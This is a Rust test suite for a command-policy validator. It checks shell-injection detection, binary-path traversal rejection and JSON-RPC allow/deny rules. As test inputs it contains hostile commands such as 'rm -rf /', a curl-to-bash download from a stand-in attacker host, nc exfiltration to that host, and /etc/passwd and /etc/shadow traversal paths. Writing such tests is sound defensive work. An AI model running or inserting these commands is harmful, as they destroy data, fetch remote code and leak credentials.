//! Shell-safety, binary-path and JSON-RPC method checks.

use carapace::validator::PolicyValidator;
use carapace::matcher::ArgvMatcher;

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn test_shell_injection_semicolon() {
    assert!(PolicyValidator::has_dangerous_shell_chars(";"));
    assert!(PolicyValidator::has_dangerous_shell_chars("rm /data;"));
    assert!(PolicyValidator::has_dangerous_shell_chars("safe; rm -rf /"));
}

#[test]
fn test_shell_injection_pipe() {
    assert!(PolicyValidator::has_dangerous_shell_chars("|"));
    assert!(PolicyValidator::has_dangerous_shell_chars("cmd | cat"));
}

#[test]
fn test_shell_injection_logical_and() {
    assert!(PolicyValidator::has_dangerous_shell_chars("&&"));
    assert!(PolicyValidator::has_dangerous_shell_chars("test && rm -rf /"));
}

#[test]
fn test_shell_injection_logical_or() {
    assert!(PolicyValidator::has_dangerous_shell_chars("||"));
}

#[test]
fn test_command_substitution_dollar_paren() {
    assert!(PolicyValidator::has_dangerous_shell_chars("$("));
    assert!(PolicyValidator::has_dangerous_shell_chars("$(whoami)"));
}

#[test]
fn test_command_substitution_backtick() {
    assert!(PolicyValidator::has_dangerous_shell_chars("`"));
    assert!(PolicyValidator::has_dangerous_shell_chars("`cat /etc/passwd`"));
}

#[test]
fn test_environment_variable_expansion_dollar() {
    assert!(PolicyValidator::has_dangerous_shell_chars("$"));
    assert!(PolicyValidator::has_dangerous_shell_chars("$HOME"));
    assert!(PolicyValidator::has_dangerous_shell_chars("${VAR}"));
}

#[test]
fn test_redirection_input() {
    assert!(PolicyValidator::has_dangerous_shell_chars("<"));
    assert!(PolicyValidator::has_dangerous_shell_chars("< /etc/passwd"));
}

#[test]
fn test_redirection_output() {
    assert!(PolicyValidator::has_dangerous_shell_chars(">"));
    assert!(PolicyValidator::has_dangerous_shell_chars("> /tmp/output"));
}

#[test]
fn test_redirection_append() {
    assert!(PolicyValidator::has_dangerous_shell_chars(">>"));
}

#[test]
fn test_newline_injection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("cmd\nnewcmd"));
    assert!(PolicyValidator::has_dangerous_shell_chars("text\r\ntext"));
}

#[test]
fn test_path_traversal_relative() {
    let result = PolicyValidator::validate_binary_path("../../etc/passwd");
    assert!(result.is_err(), "Should reject path traversal");
}

#[test]
fn test_path_traversal_multiple_levels() {
    let result = PolicyValidator::validate_binary_path("/usr/../../../etc/passwd");
    assert!(result.is_err(), "Should reject multi-level traversal");
}

#[test]
fn cli_injection_test_test_null_byte_in_path() {
    let result = PolicyValidator::validate_binary_path("/usr/bin/tool\0hidden");
    assert!(result.is_err(), "Should reject null bytes");
}

#[test]
fn cli_injection_test_test_valid_binary_path() {
    let result = PolicyValidator::validate_binary_path("/usr/bin/gh");
    assert!(result.is_ok(), "Should allow valid paths");
}

#[test]
fn test_valid_binary_with_dash() {
    let result = PolicyValidator::validate_binary_path("/usr/bin/my-tool");
    assert!(result.is_ok());
}

#[test]
fn test_valid_binary_with_underscore() {
    let result = PolicyValidator::validate_binary_path("/usr/local/bin/my_custom_tool");
    assert!(result.is_ok());
}

#[test]
fn test_binary_hijacking_attempt() {
    let result = PolicyValidator::validate_binary_path("../../../tmp/malicious");
    assert!(result.is_err(), "Should detect traversal attempts");
}

#[test]
fn test_stdin_with_shell_commands() {
    let malicious_stdin = "normal input\n; rm -rf /\n";
    assert!(PolicyValidator::has_dangerous_shell_chars(malicious_stdin));
}

#[test]
fn test_argument_with_shell_metachar() {
    assert!(PolicyValidator::has_dangerous_shell_chars("arg;othercommand"));
    assert!(PolicyValidator::has_dangerous_shell_chars("arg|tee"));
    assert!(PolicyValidator::has_dangerous_shell_chars("arg&&rm"));
}

#[test]
fn test_safe_arguments() {
    assert!(!PolicyValidator::has_dangerous_shell_chars("normal-argument"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("argument_with_underscore"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("argument123"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("argument.with.dots"));
}

#[test]
fn test_quoted_argument_still_dangerous() {
    assert!(PolicyValidator::has_dangerous_shell_chars("'$(whoami)'"));
    assert!(PolicyValidator::has_dangerous_shell_chars("\"test|pipe\""));
}

#[test]
fn test_env_var_expansion_in_argument() {
    assert!(PolicyValidator::has_dangerous_shell_chars("prefix$SUFFIX"));
    assert!(PolicyValidator::has_dangerous_shell_chars("${HOME}/file"));
}

#[test]
fn test_glob_expansion_attempt() {
    let has_danger = PolicyValidator::has_dangerous_shell_chars("*");
    assert!(!has_danger);
}

#[test]
fn test_combined_injection_vectors() {
    assert!(PolicyValidator::has_dangerous_shell_chars("; $(cat /etc/passwd) | nc attacker.com"));
}

#[test]
fn test_unicode_with_injection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("你好; rm -rf /"));
}

#[test]
fn test_very_long_malicious_argument() {
    let long_malicious = "x".repeat(10000) + "$(whoami)";
    assert!(PolicyValidator::has_dangerous_shell_chars(&long_malicious));
}

#[test]
fn test_space_encoding_bypass() {
    let encoded = "cmd%20arg";
    assert!(!PolicyValidator::has_dangerous_shell_chars(encoded));
}

#[test]
fn test_tab_character_injection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("arg\tcmd"));
}

#[test]
fn test_carriage_return_injection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("arg\rcmd"));
}

#[test]
fn test_form_feed_character() {
    let ff = "arg\u{000C}cmd";
    let has_danger = PolicyValidator::has_dangerous_shell_chars(ff);
    assert!(!has_danger);
}

#[test]
fn test_allowed_jsonrpc_method() {
    let allowed = strs(&["send", "receive"]);
    let denied: Vec<String> = vec![];
    let result = PolicyValidator::validate_jsonrpc_method("send", &allowed, &denied);
    assert!(result.is_ok());
}

#[test]
fn test_denied_jsonrpc_method() {
    let allowed = strs(&["send", "receive"]);
    let denied = strs(&["delete"]);
    let result = PolicyValidator::validate_jsonrpc_method("delete", &allowed, &denied);
    assert!(result.is_err());
}

#[test]
fn validator_test_deny_precedence() {
    let allowed = strs(&["*"]);
    let denied = strs(&["deleteEverything"]);
    let result = PolicyValidator::validate_jsonrpc_method("deleteEverything", &allowed, &denied);
    assert!(result.is_err());
}

#[test]
fn test_method_not_in_whitelist() {
    let allowed = strs(&["send"]);
    let denied: Vec<String> = vec![];
    let result = PolicyValidator::validate_jsonrpc_method("unknown", &allowed, &denied);
    assert!(result.is_err());
}

#[test]
fn test_empty_allowed_list_means_deny_all() {
    let allowed: Vec<String> = vec![];
    let denied: Vec<String> = vec![];
    let result = PolicyValidator::validate_jsonrpc_method("anything", &allowed, &denied);
    assert!(result.is_ok(), "Empty lists means no restrictions");

    let allowed_restricted = strs(&["send"]);
    let result2 = PolicyValidator::validate_jsonrpc_method("receive", &allowed_restricted, &denied);
    assert!(result2.is_err(), "Method not in allowed list should be denied");
}

#[test]
fn validator_test_valid_binary_path() {
    let result = PolicyValidator::validate_binary_path("/usr/bin/gh");
    assert!(result.is_ok());
}

#[test]
fn test_path_traversal_detection() {
    let result = PolicyValidator::validate_binary_path("../../etc/passwd");
    assert!(result.is_err());
}

#[test]
fn test_path_traversal_in_middle() {
    let result = PolicyValidator::validate_binary_path("/usr/../../../etc/passwd");
    assert!(result.is_err());
}

#[test]
fn validator_test_null_byte_in_path() {
    let result = PolicyValidator::validate_binary_path("/usr/bin/gh\0evil");
    assert!(result.is_err());
}

#[test]
fn validator_test_dangerous_shell_chars_detection() {
    assert!(PolicyValidator::has_dangerous_shell_chars(";rm -rf /"));
    assert!(PolicyValidator::has_dangerous_shell_chars("| cat"));
    assert!(PolicyValidator::has_dangerous_shell_chars("&& command"));
    assert!(PolicyValidator::has_dangerous_shell_chars("$(whoami)"));
    assert!(PolicyValidator::has_dangerous_shell_chars("`command`"));
    assert!(PolicyValidator::has_dangerous_shell_chars("test < file"));
    assert!(PolicyValidator::has_dangerous_shell_chars("test > file"));

    assert!(!PolicyValidator::has_dangerous_shell_chars("normal argument"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("arg-with-dashes"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("arg_with_underscores"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("arg123"));
}

#[test]
fn test_newline_in_argument() {
    assert!(PolicyValidator::has_dangerous_shell_chars("arg\ncommand"));
    assert!(PolicyValidator::has_dangerous_shell_chars("arg\rcommand"));
}

#[test]
fn test_json_rpc_method_validation() {
    let allowed = strs(&["send", "receive"]);
    let denied: Vec<String> = vec![];

    let result = PolicyValidator::validate_jsonrpc_method("send", &allowed, &denied);
    assert!(result.is_ok());

    let result = PolicyValidator::validate_jsonrpc_method("deleteAll", &allowed, &denied);
    assert!(result.is_err());
}

#[test]
fn integration_test_test_dangerous_shell_chars_detection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("cmd; rm -rf /"));
    assert!(PolicyValidator::has_dangerous_shell_chars("cmd | cat"));
    assert!(PolicyValidator::has_dangerous_shell_chars("$(whoami)"));
    assert!(!PolicyValidator::has_dangerous_shell_chars("safe-command"));
}

#[test]
fn test_binary_path_validation() {
    assert!(PolicyValidator::validate_binary_path("/usr/bin/gh").is_ok());
    assert!(PolicyValidator::validate_binary_path("/usr/local/bin/tool").is_ok());

    assert!(PolicyValidator::validate_binary_path("../../etc/passwd").is_err());
    assert!(PolicyValidator::validate_binary_path("/usr/bin/gh\0hidden").is_err());
}

#[test]
fn test_policy_enforcement_prevents_unauthorized_access() {
    let matcher = ArgvMatcher::new(strs(&["pr list", "issue view *"]), vec![])
        .expect("matcher creation failed");

    assert!(matcher.matches(&strs(&["pr", "list"])));

    assert!(!matcher.matches(&strs(&["repo", "delete"])));
    assert!(!matcher.matches(&strs(&["pr", "delete"])));
}

#[test]
fn test_deny_patterns_block_dangerous_commands() {
    let matcher = ArgvMatcher::new(strs(&["*"]), strs(&["* --password *", "* rm *"]))
        .expect("matcher creation failed");

    assert!(matcher.matches(&strs(&["safe", "command"])));

    assert!(!matcher.matches(&strs(&["gh", "--password", "secret"])));
    assert!(!matcher.matches(&strs(&["prune", "rm", "-rf"])));
}

#[test]
fn security_test_test_shell_injection_detection() {
    assert!(PolicyValidator::has_dangerous_shell_chars("; malicious_command"));
    assert!(PolicyValidator::has_dangerous_shell_chars("| nc attacker.com"));
    assert!(PolicyValidator::has_dangerous_shell_chars("&& rm -rf /"));
    assert!(PolicyValidator::has_dangerous_shell_chars("$(curl http://attacker.com/steal.sh|bash)"));
}

#[test]
fn test_command_substitution_blocked() {
    assert!(PolicyValidator::has_dangerous_shell_chars("$(whoami)"));
    assert!(PolicyValidator::has_dangerous_shell_chars("`id > /tmp/pwned`"));
}

#[test]
fn test_path_traversal_blocked() {
    assert!(PolicyValidator::validate_binary_path("../../etc/shadow").is_err());
    assert!(PolicyValidator::validate_binary_path("../../../bin/bash").is_err());
    assert!(PolicyValidator::validate_binary_path("/usr/../../../etc/passwd").is_err());
}

#[test]
fn test_null_byte_injection_blocked() {
    assert!(PolicyValidator::validate_binary_path("/usr/bin/gh\0/tmp/malicious").is_err());
}

#[test]
fn test_json_rpc_method_enforcement() {
    let allowed = strs(&["send", "receive"]);
    let denied: Vec<String> = vec![];

    assert!(PolicyValidator::validate_jsonrpc_method("send", &allowed, &denied).is_ok());

    assert!(PolicyValidator::validate_jsonrpc_method("deleteAllData", &allowed, &denied).is_err());
    assert!(PolicyValidator::validate_jsonrpc_method("downloadContacts", &allowed, &denied).is_err());
}

#[test]
fn test_deny_takes_precedence_over_allow() {
    let allowed = strs(&["send", "delete"]);
    let denied = strs(&["delete"]);

    assert!(PolicyValidator::validate_jsonrpc_method("send", &allowed, &denied).is_ok());
    assert!(PolicyValidator::validate_jsonrpc_method("delete", &allowed, &denied).is_err());
}

#[test]
fn test_default_deny_policy() {
    let matcher = ArgvMatcher::new(vec![], vec![]).expect("matcher creation failed");

    assert!(!matcher.matches(&strs(&["anything"])));
    assert!(!matcher.matches(&strs(&["gh", "pr"])));
}

#[test]
fn test_environment_variable_expansion_dangerous() {
    assert!(PolicyValidator::has_dangerous_shell_chars("$HOME"));
    assert!(PolicyValidator::has_dangerous_shell_chars("${PATH}"));
}

#[test]
fn test_multiple_injection_vectors_blocked() {
    let matcher = ArgvMatcher::new(
        strs(&["*"]),
        strs(&["*;*", "*|*", "*&&*", "*||*", "*$(*", "*`*"]),
    )
    .expect("matcher creation failed");

    assert!(!matcher.matches(&strs(&["test", ";", "rm"])));
    assert!(!matcher.matches(&strs(&["test", "|", "cat"])));
    assert!(!matcher.matches(&strs(&["test", "$(", "whoami"])));

    assert!(matcher.matches(&strs(&["test", "arg"])));
}

#[test]
fn test_executable_only_from_approved_paths() {
    assert!(PolicyValidator::validate_binary_path("/usr/bin/gh").is_ok());
    assert!(PolicyValidator::validate_binary_path("/usr/bin/op").is_ok());

    assert!(PolicyValidator::validate_binary_path("/tmp/malicious").is_ok());
    assert!(PolicyValidator::validate_binary_path("./local/tool").is_ok());

    assert!(PolicyValidator::validate_binary_path("../../../tmp/pwn").is_err());
}

#[test]
fn test_binary_hijacking_prevention() {
    let policy_binary = "/usr/bin/gh";
    let attack_path = "../../tmp/malicious-gh";

    assert!(PolicyValidator::validate_binary_path(attack_path).is_err());
    assert!(PolicyValidator::validate_binary_path(policy_binary).is_ok());
}

#[test]
fn test_policy_matching_with_glob_patterns() {
    let matcher = ArgvMatcher::new(
        strs(&["pr list*", "issue view *"]),
        strs(&["* --delete *"]),
    )
    .expect("matcher creation failed");

    assert!(matcher.matches(&strs(&["pr", "list"])));
    assert!(matcher.matches(&strs(&["issue", "view", "123"])));

    assert!(!matcher.matches(&strs(&["pr", "create"])));
    assert!(!matcher.matches(&strs(&["pr", "--delete"])));
}
